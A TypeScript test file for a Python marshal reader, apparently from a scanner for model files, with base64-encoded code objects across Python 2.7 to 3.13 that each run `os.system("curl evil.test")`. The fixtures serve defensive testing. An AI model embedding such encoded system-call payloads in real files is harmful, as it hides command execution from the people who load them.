// The marshal reader on code that real Pythons marshalled.
import { describe, expect, it } from 'vitest';
import { MarshalError } from '../../../src/format/marshal/errors.ts';
import { readCode } from '../../../src/format/marshal/read.ts';
import { code, list, text } from './build.ts';

/** One function with an inner one: `import os`, `os.system("curl evil.test")`, `K.mean(x)`; by Python version. */
const SAMPLES: readonly (readonly [string, string])[] = [
  [
    '2.7',
    'YwEAAAACAAAAAgAAAAMAAABzMQAAAGQBAGQAAGwAAIkAAIcAAGYBAGQCAIYAAH0BAHwBAIMAAHAwAHQBAGoCAHwAAIMBAFMoAwAAAE5p/////2MAAAAAAAAAAAIAAAATAAAAcw0AAACIAABqAABkAQCDAQBTKAIAAABOcw4AAABjdXJsIGV2aWwudGVzdCgBAAAAdAYAAABzeXN0ZW0oAAAAACgBAAAAdAIAAABvcygAAAAAcwgAAABtb2RlbC5weXQBAAAAZwQAAABzAgAAAAABKAMAAABSAQAAAHQBAAAAS3QEAAAAbWVhbigCAAAAdAEAAAB4UgIAAAAoAAAAACgBAAAAUgEAAABzCAAAAG1vZGVsLnB5dAEAAABmAgAAAHMGAAAAAAEMAQ8C',
  ],
  [
    '3.6',
    '4wEAAAAAAAAAAgAAAAMAAAADAAAAcyQAAABkAWQAbACJAIcAZgFkAmQDhAh9AXwBgwBwInQBagJ8AIMBUwApBE7pAAAAAGMAAAAAAAAAAAAAAAACAAAAEwAAAHMKAAAAiABqAGQBgwFTACkCTnoOY3VybCBldmlsLnRlc3QpAdoGc3lzdGVtqQApAdoCb3NyAwAAAPoIbW9kZWwucHnaAWcEAAAAcwIAAAAAAXoMZi48bG9jYWxzPi5nKQNyBAAAANoBS1oEbWVhbikC2gF4cgYAAAByAwAAACkBcgQAAAByBQAAANoBZgIAAABzBgAAAAABCAEMAg==',
  ],
  [
    '3.7',
    '4wEAAAAAAAAAAgAAAAMAAAADAAAAcyQAAABkAWQAbACJAIcAZgFkAmQDhAh9AXwBgwBwInQBoAJ8AKEBUwApBE7pAAAAAGMAAAAAAAAAAAAAAAADAAAAEwAAAHMKAAAAiACgAGQBoQFTACkCTnoOY3VybCBldmlsLnRlc3QpAdoGc3lzdGVtqQApAdoCb3NyAwAAAPoIbW9kZWwucHnaAWcEAAAAcwIAAAAAAXoMZi48bG9jYWxzPi5nKQNyBAAAANoBS1oEbWVhbikC2gF4cgYAAAByAwAAACkBcgQAAAByBQAAANoBZgIAAABzBgAAAAABCAEMAg==',
  ],
  [
    '3.8',
    '4wEAAAAAAAAAAAAAAAIAAAADAAAAAwAAAHMkAAAAZAFkAGwAiQCHAGYBZAJkA4QIfQF8AYMAcCJ0AaACfAChAVMAKQRO6QAAAABjAAAAAAAAAAAAAAAAAAAAAAMAAAATAAAAcwoAAACIAKAAZAGhAVMAKQJOeg5jdXJsIGV2aWwudGVzdCkB2gZzeXN0ZW2pAKkB2gJvc3IDAAAA+ghtb2RlbC5wedoBZwQAAABzAgAAAAABegxmLjxsb2NhbHM+LmcpA3IFAAAA2gFLWgRtZWFuKQLaAXhyBwAAAHIDAAAAcgQAAAByBgAAANoBZgIAAABzBgAAAAABCAEMAg==',
  ],
  [
    '3.10',
    '4wEAAAAAAAAAAAAAAAIAAAADAAAAAwAAAHMkAAAAZAFkAGwAiQCHAGYBZAJkA4QIfQF8AYMAcBF0AaACfAChAVMAKQRO6QAAAABjAAAAAAAAAAAAAAAAAAAAAAMAAAATAAAAcwoAAACIAKAAZAGhAVMAKQJOeg5jdXJsIGV2aWwudGVzdCkB2gZzeXN0ZW2pAKkB2gJvc3IDAAAA+ghtb2RlbC5wedoBZwQAAABzAgAAAAoBegxmLjxsb2NhbHM+LmcpA3IFAAAA2gFLWgRtZWFuKQLaAXhyBwAAAHIDAAAAcgQAAAByBgAAANoBZgIAAABzBgAAAAgBDAEQAg==',
  ],
  [
    '3.11',
    '4wEAAAAAAAAAAAAAAAMAAAADAAAA814AAACHApcAZAFkAGwAigKIAmYBZAKECH0BAgB8AaYAAACrAAAAAAAAAAAAcBl0AgAAAAAAAAAAAACgAgAAAAAAAAAAAAAAAAAAAAAAAAAAfACmAQAAqwEAAAAAAAAAAFMAKQNO6QAAAABjAAAAAAAAAAAAAAAAAwAAABMAAADzLgAAAJUBlwCJAKAAAAAAAAAAAAAAAAAAAAAAAAAAAABkAaYBAACrAQAAAAAAAAAAUwApAk56DmN1cmwgZXZpbC50ZXN0KQHaBnN5c3RlbSkB2gJvc3MBAAAAgPoIbW9kZWwucHnaAWd6DGYuPGxvY2Fscz4uZwQAAABzFgAAAPiAANgPEY95innQGSnRDyrUDyrQCCrzAAAAACkDcgUAAADaAUvaBG1lYW4pA9oBeHIHAAAAcgUAAABzAwAAACAgQHIGAAAA2gFmcgwAAAACAAAAc0AAAAD4gADYBA2ASYBJgEnwAgEFK/AAAQUr8AABBSvwAAEFK/AAAQUr4AsMiDGJM4wz0AsblSGXJpImmBGRKZQp0AQbcggAAAA=',
  ],
  [
    '3.12',
    '4wEAAAAAAAAAAAAAAAMAAAADAAAA81IAAACHApcAZAFkAGwAigKIAmYBZAKECH0BAgB8AasAAAAAAAAAeAFzFQEAdAIAAAAAAAAAAGoFAAAAAAAAAAAAAAAAAAAAAAAAfACrAQAAAAAAAFMAKQNO6QAAAABjAAAAAAAAAAAAAAAAAwAAABMAAADzJgAAAJUBlwCJAGoBAAAAAAAAAAAAAAAAAAAAAAAAZAGrAQAAAAAAAFMAKQJOeg5jdXJsIGV2aWwudGVzdCkB2gZzeXN0ZW0pAdoCb3NzAQAAAID6CG1vZGVsLnB52gFnegxmLjxsb2NhbHM+LmcEAAAAcxMAAAD4gADYDxGPeYl50Bkp0w8q0Agq8wAAAAApA3IFAAAA2gFL2gRtZWFuKQPaAXhyBwAAAHIFAAAAcwMAAAAgIEByBgAAANoBZnIMAAAAAgAAAHMgAAAA+IAA2wQN9AIBBSvhCwyLM9ILG5QhlyaRJpgRkynQBBtyCAAAAA==',
  ],
  [
    '3.13',
    '4wEAAAAAAAAAAAAAAAMAAAADAAAA814AAABeApUAUwFTAEsAbQJVAjQBUwIaAGoIbgFVASIANQAAAAAAAAA9ASgAAAAAAAAAZBUAACAAWwIAAAAAAAAAAFIFAAAAAAAAAAAAAAAAAAAAAAAAVQA1AQAAAAAAACQAKQNO6QAAAABjAAAAAAAAAAAAAAAAAwAAABMAAADzJgAAAD4BlQBUAFIBAAAAAAAAAAAAAAAAAAAAAAAAUwE1AQAAAAAAACQAKQJOeg5jdXJsIGV2aWwudGVzdCkB2gZzeXN0ZW0pAdoCb3NzAQAAAIDaCG1vZGVsLnB52gFn2gxmLjxsb2NhbHM+LmcEAAAAcxMAAAD4gADYDxGPeYl50Bkp0w8q0Agq8wAAAAApA3IFAAAA2gFL2gRtZWFuKQPaAXhyBwAAAHIFAAAAcwMAAAAgIEByBgAAANoBZnINAAAAAgAAAHMgAAAA+IAA2wQN9QIBBSvhCwyLM9cLG5QhlyaRJpgRkynQBBtyCQAAAA==',
  ],
];

describe('readCode', () => {
  it.each(SAMPLES)('reads what Python %s wrote', (_, encoded) => {
    const summary = readCode(Buffer.from(encoded, 'base64'));
    expect(summary).toMatchObject({ name: 'f', filename: 'model.py', functions: 2 });
    expect(new Set(summary.names)).toEqual(new Set(['os', 'K', 'mean', 'system']));
    expect(summary.texts).toContain('curl evil.test');
  });

  it('reads a code object of built parts', () => {
    const data = code({ names: list(text('exec')), constants: list(text('import os')) });
    expect(readCode(data)).toEqual({
      name: '<lambda>',
      filename: 'x.py',
      names: ['exec'],
      texts: ['import os'],
      functions: 1,
    });
  });

  it('cuts long texts and long lists', () => {
    const many = Array.from({ length: 1000 }, (_, index) => text(`name${index}`));
    const summary = readCode(code({ names: list(...many), constants: list(text('x'.repeat(5000))) }));
    expect(summary.names).toHaveLength(256);
    expect(summary.texts).toEqual(['x'.repeat(200)]);
  });

  it.each([
    ['names that are no tuple', code({ names: text('exec'), constants: list() })],
    ['a name that is no text', code({ names: list(Buffer.from('N')), constants: list() })],
    ['names that refer to nothing', code({ names: Buffer.from('r\0\0\0\x10', 'latin1'), constants: list() })],
    ['marshalled data that is no code', list(text('a'))],
    ['nothing', Buffer.alloc(0)],
  ])('refuses %s', (_, data) => {
    expect(() => readCode(data)).toThrow(MarshalError);
  });
});
